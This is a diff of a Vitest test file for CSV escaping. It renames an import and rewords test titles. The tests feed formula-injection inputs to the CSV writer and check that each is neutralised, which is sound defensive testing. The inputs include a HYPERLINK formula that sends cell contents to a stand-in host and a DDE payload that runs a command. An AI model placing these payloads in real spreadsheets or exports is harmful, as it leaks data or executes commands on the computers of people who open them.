@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvText } from '#server/registers/csv.ts';
+import { csvCell, csvText } from '#server/registers/register-file.ts';
 
 describe('a CSV cell', () => {
   it.each([
@@ -8,7 +8,7 @@ describe('a CSV cell', () => {
     ['commas and line breaks', 'Mill Lane,\r\nHarrowmere', '"Mill Lane,\r\nHarrowmere"'],
     ['quotation marks', 'The "London" office', '"The ""London"" office"'],
     ['letters beyond ASCII', 'Café Żółw – 株式会社', '"Café Żółw – 株式会社"'],
-    ['a minus sign that begins nothing', 'Tier 1 - 3', '"Tier 1 - 3"'],
+    ['a minus sign that is not at the start', 'Tier 1 - 3', '"Tier 1 - 3"'],
   ])('keeps %s', (_what, value, written) => {
     expect(csvCell(value)).toBe(written);
   });
@@ -17,12 +17,12 @@ describe('a CSV cell', () => {
     ...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Open")', '+44 1632 960100'],
     ...['-2+3+cmd|" /C calc"!A0', '@SUM(A1:A9)', ' =1+1', '\u00a0=1+1', '\t=1+1', '\r=1+1', '\nplain'],
     ...['\ufeff=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
-  ])('never begins as a formula: %j', (value) => {
+  ])('never starts as a formula: %j', (value) => {
     expect(csvCell(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
   });
 });
 
-it('CSV is UTF-8 with its mark and ends each line with CR LF', () => {
+it('CSV is UTF-8 with a BOM and ends each line with CR LF', () => {
   expect(
     csvText([
       ['Name', 'Level'],
